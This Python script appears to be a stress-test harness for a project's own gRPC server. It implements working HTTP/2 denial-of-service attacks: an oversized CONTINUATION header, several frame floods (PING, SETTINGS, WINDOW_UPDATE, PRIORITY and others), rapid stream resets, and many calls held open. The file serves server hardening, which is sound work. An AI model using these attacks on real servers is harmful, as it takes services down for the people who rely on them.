# SPDX-License-Identifier: Apache-2.0
#
# Connections that do harm, each in a process of its own: `attacks.py NAME ADDRESS SECONDS`. Ends when the time is over, or when
# the server ends the connection, and prints how many units it has sent.
import struct
import sys
import threading
import time

import plain_grpc
from plain_grpc import (ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, MAX_FRAME_BYTES, PING, PREFACE,
                        RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, varint)

HEALTH_CHECK = "/grpc.health.v1.Health/Check"
PRIORITY_FRAME, UNKNOWN_FRAME = 2, 0xFE
LONG_HEADER_BYTES = 16_800_000


def headers(method):
    """The headers of a call, as HPACK's literals."""
    block = b""
    for name, value in [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost"),
                        ("content-type", "application/grpc"), ("te", "trailers")]:
        block += b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return block


def connect(address):
    """A connection of HTTP/2 whose answers are taken and forgotten."""
    opened = plain_grpc.connect(address)
    opened.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def take():
        try:
            while opened.recv(65536):
                pass
        except OSError:
            pass

    threading.Thread(target=take, daemon=True).start()
    return opened


def long_header(address, seconds):
    """One header of many megabytes, which the parser reads anew from its beginning with every frame."""
    connection = connect(address)
    # A literal of a length that is one byte more than seven bits, and the rest.
    start = headers(HEALTH_CHECK) + b"\0\x01x\x7f" + varint(LONG_HEADER_BYTES - 127)
    connection.sendall(frame(HEADERS, 0, 1, start))
    piece = frame(CONTINUATION, 0, 1, b"a" * MAX_FRAME_BYTES)
    for _ in range(LONG_HEADER_BYTES // MAX_FRAME_BYTES):
        connection.sendall(piece)
    time.sleep(seconds)
    return 1


def flood_with(unit, start=b""):
    """An attack that sends `unit` again and again, after `start`."""
    def flood(address, seconds):
        connection = connect(address)
        connection.sendall(start)
        data = unit * (1_000_000 // len(unit))
        num_sent = 0
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            connection.sendall(data)
            num_sent += len(data) // len(unit)
        return num_sent
    return flood


def resets(method, num_at_once):
    """An attack that begins calls and resets them, so many in one write and then the resets in the next."""
    def reset(address, seconds):
        connection = connect(address)
        block = headers(method)
        stream = 1
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            streams = range(stream, stream + 2 * num_at_once, 2)
            stream = streams.stop
            connection.sendall(b"".join(frame(HEADERS, END_HEADERS, each, block) for each in streams))
            connection.sendall(b"".join(frame(RST_STREAM, 0, each, struct.pack(">I", 8)) for each in streams))
        return stream // 2
    return reset


def open_calls(method, num_connections, num_calls):
    """An attack that begins calls and leaves them open."""
    def leave_open(address, seconds):
        block = headers(method)
        calls = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(num_calls))
        connections = []
        for _ in range(num_connections):
            connections.append(connect(address))
            connections[-1].sendall(calls)
        time.sleep(seconds)
        return len(connections) * num_calls
    return leave_open


CALL = frame(HEADERS, END_HEADERS, 1, headers(HEALTH_CHECK))
ATTACKS = {
    "long_header": long_header,
    "ping": flood_with(frame(PING, 0, 0, bytes(8))),
    "ping_ack": flood_with(frame(PING, ACK, 0, bytes(8))),
    "settings": flood_with(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))),
    "empty_data": flood_with(frame(DATA, 0, 1), CALL),
    "small_windows": flood_with(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), CALL),
    "priority": flood_with(frame(PRIORITY_FRAME, 0, 3, b"\0\0\0\1\1")),
    "resets": resets(plain_grpc.INFER, 100),
    "open_calls": open_calls(plain_grpc.STREAM_INFER, 100, 1000),
    "unknown": flood_with(frame(UNKNOWN_FRAME, 0, 0)),
}


if __name__ == "__main__":
    try:
        print(ATTACKS[sys.argv[1]](sys.argv[2], float(sys.argv[3])))
    except OSError as error:
        print(f"the server ended the connection: {error}")
